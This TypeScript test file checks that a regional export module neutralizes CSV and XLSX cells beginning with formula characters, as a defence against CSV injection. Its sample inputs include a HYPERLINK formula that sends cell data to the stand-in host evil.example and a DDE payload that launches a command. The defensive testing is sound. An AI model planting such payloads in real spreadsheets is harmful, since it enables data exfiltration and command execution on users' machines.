import ExcelJS from 'exceljs';
import { buildCsv, buildXlsx, neutralizeCell, type ExportMeta } from '../src/export';

/** Issue 17: a county ADMIN names its branch like a formula; the province's REPORTER exports. */
const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

const meta = (branchName: string): ExportMeta => ({
  branchName,
  period: { table: 'SURVEY', asOf: new Date('2021-06-30T00:00:00Z'), year: 2021, key: 'SURVEY:2021-06-30' },
  source: 'LIVE',
  generatedAt: new Date('2021-12-10T08:00:00Z'),
});

/** The cells of a CSV file (RFC 4180, as buildCsv writes it). */
function csvCells(base64: string): string[] {
  const text = Buffer.from(base64, 'base64').toString('utf8').slice(1);
  const cells: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/gy;
  let m: RegExpExecArray | null;
  while ((m = re.exec(text)) && re.lastIndex < text.length) cells.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
  return cells;
}

describe('export cells cannot carry formulas (OWASP CSV injection)', () => {
  it('neutralizes text led by = + - @, tab or CR, and leaves numbers and other text alone', () => {
    for (const a of ATTACKS) expect(neutralizeCell(a)).toBe(`'${a}`);
    expect(neutralizeCell('杭州市红十字会')).toBe('杭州市红十字会');
    expect(neutralizeCell(-3)).toBe(-3);
    expect(neutralizeCell(null)).toBeNull();
  });

  it.each(ATTACKS)('CSV: a branch named %j is a text cell', (name) => {
    const cells = csvCells(buildCsv(meta(name), { countiesRationalized: 3 }).base64);
    expect(cells).toContain(`'${name}`);
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each(ATTACKS)('XLSX: a branch named %j is never a formula nor text led by a formula character', async (name) => {
    const file = await buildXlsx(meta(name), { countiesRationalized: 3 });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(file.base64, 'base64') as never);
    const values: unknown[] = [];
    wb.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        values.push(cell.value);
      }),
    );
    expect(values.some((v) => typeof v === 'string' && v.includes(name.trim()))).toBe(true);
    for (const v of values) if (typeof v === 'string') expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });
});
